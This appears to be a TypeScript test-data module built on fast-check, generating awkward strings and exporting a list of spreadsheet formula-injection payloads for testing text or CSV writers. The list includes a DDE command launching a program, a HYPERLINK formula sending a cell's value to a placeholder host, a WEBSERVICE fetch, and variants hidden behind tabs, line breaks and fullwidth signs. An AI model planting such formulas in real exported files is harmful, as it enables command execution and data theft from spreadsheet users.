import fc from 'fast-check';

/** Texts that break writers: quotes, line ends, what looks like markup or an escape, characters beyond the first plane. */
const awkward = fc
  .array(
    fc.constantFrom(
      ...['=', '+', '-', '@', '\t', '\r', '\n', '\r\n', ' ', '"', '""', "'", ',', ';', '<', '>', '&', '&amp;', ']]>'],
      ...['_x0041_', '_x005F_', '_', 'x000D_', '\u0000', '\u0007', '\u007F', '\u0085', '\u2028', '\uFEFF', '\uFFFE'],
      ...['😀', '𠮷', '\uD83D', '\uDE00', '案', '号', 'a', '0', '１'],
    ),
    { maxLength: 12 },
  )
  .map((parts) => parts.join(''));

export const anyText = fc.oneof(awkward, fc.string({ unit: 'binary', maxLength: 40 }), fc.string({ maxLength: 40 }));

/** Formulas that call a program, fetch an address or send a cell away, and how they are hidden. */
export const FORMULAS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.invalid/?x="&A1,"案件详情")',
  '=WEBSERVICE("http://example.invalid/")',
  '+1+1',
  '-1+1',
  '-5',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '=1+1";=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
];
